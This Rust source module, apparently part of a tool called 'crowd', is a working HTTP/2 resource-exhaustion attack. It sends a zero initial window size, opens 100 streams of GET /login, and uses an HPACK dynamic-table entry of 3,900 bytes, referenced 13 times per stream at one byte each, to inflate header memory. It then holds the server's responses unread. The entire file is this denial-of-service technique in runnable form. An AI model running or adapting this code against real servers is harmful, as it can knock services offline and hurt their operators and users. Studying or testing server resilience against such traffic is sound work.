//! Clients that ask for much over HTTP/2 at once, and read nothing of what is answered.

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::crowd::connect;

const STREAMS: u32 = 100;

/// Sends a hundred requests, each with all the headers that there is room for, in a few bytes; ends once the first is
/// answered or refused. What is answered is held up as long as the connection is kept.
pub async fn ask_for_much(from: [u8; 4], port: u16) -> std::io::Result<TcpStream> {
    let mut stream = connect(from, port).await?;
    let mut all = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // SETTINGS_INITIAL_WINDOW_SIZE is 0.
    all.extend(frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]));
    for number in 0..STREAMS {
        all.extend(frame(1, 5, number * 2 + 1, &headers(number == 0)));
    }
    stream.write_all(&all).await?;
    loop {
        let mut head = [0; 9];
        stream.read_exact(&mut head).await?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        stream.read_exact(&mut vec![0; length as usize]).await?;
        if head[5..] == 1_u32.to_be_bytes() {
            return Ok(stream);
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).expect("a short one").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), content].concat()
}

/// `GET /login` and a header of 3,900 bytes, 13 times: told once, after that a byte each (RFC 7541).
fn headers(is_first: bool) -> Vec<u8> {
    let mut block = b"\x82\x86\x04\x06/login\x01\x09localhost".to_vec();
    if is_first {
        // 127 and 29 * 128 + 61 are 3,900.
        block.extend(b"\x40\x01x\x7f\xbd\x1d");
        block.extend([b'v'; 3900]);
    }
    block.extend([0xbe; 13]);
    block
}
